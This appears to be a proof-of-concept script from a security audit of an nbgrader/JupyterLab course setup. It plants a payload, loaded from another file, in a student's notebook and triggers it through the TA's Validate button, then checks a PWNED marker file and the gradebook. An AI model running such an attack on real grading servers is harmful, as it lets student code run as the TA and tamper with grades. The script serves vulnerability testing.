"""a23 (new code, 343d0d5): a02 again. a01 through the TA's server as `make lab` starts it: the Validate button of nbgrader's JupyterLab extension
POSTs /assignments/validate {path}; the handler loads nbgrader_config.py from the server's cwd (the course folder)
and runs nbgrader's Validator (plain Execute) in the server's process, as the TA."""
from lib import *
import urllib.request
exec(open("a01_validate_runs_handin.py").read().split("hon = honest(A)")[0].split('d = make_course("a01")')[1])  # EVIL
d = make_course("a23")
A = "ps1_memory"
mal = honest(A)
for c in mal.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = EVIL.replace("a01-PWNED", "a23-PWNED") + "\n" + c.source
for s, nb in (("aaron", honest(A)), ("mallory", mal), ("zoe", honest(A))):
    hand_in(d, s, A, nb)
P = "/tmp/attack38-user-a23-PWNED"
if os.path.exists(P): os.remove(P)
grade(d, A)
print("== after make grade"); scores(d)
chown(d)
env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME="/tmp/attack38-user-a23-home")
os.makedirs(env["HOME"], exist_ok=True); chown(env["HOME"])
lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                        "--notebook-dir=.", "--no-browser", "--port=18940", "--ServerApp.token=tok38"],
                       cwd=d, env=env, stdout=open("/tmp/attack38-user-a23-lab.log", "w"), stderr=subprocess.STDOUT)
try:
    for _ in range(60):
        try:
            urllib.request.urlopen("http://127.0.0.1:18940/api/status?token=tok38", timeout=2); break
        except Exception:
            time.sleep(1)
    def post(url, body):
        req = urllib.request.Request("http://127.0.0.1:18940" + url, data=json.dumps(body).encode(), method="POST",
                                     headers={"Authorization": "token tok38", "Content-Type": "application/json"})
        return urllib.request.urlopen(req, timeout=300).read().decode()
    # the guard is in place in this server: Formgrader's autograde refused
    print("autograde button:", post(f"/formgrader/api/submission/{A}/mallory/autograde", {})[:200])
    t = time.time()
    out = post("/assignments/validate", {"path": f"submitted/mallory/{A}/{A}.ipynb"})
    print(f"validate button answered in {time.time()-t:.1f}s:", out[:400])
finally:
    lab.terminate(); lab.wait(20)
print("PWNED:", os.path.exists(P), open(P).read() if os.path.exists(P) else "")
print("== gradebook after the TA's Validate click"); scores(d)
grade(d, A)
print("== after the next make grade"); scores(d)
os.system(f"cat {d}/grades.csv")
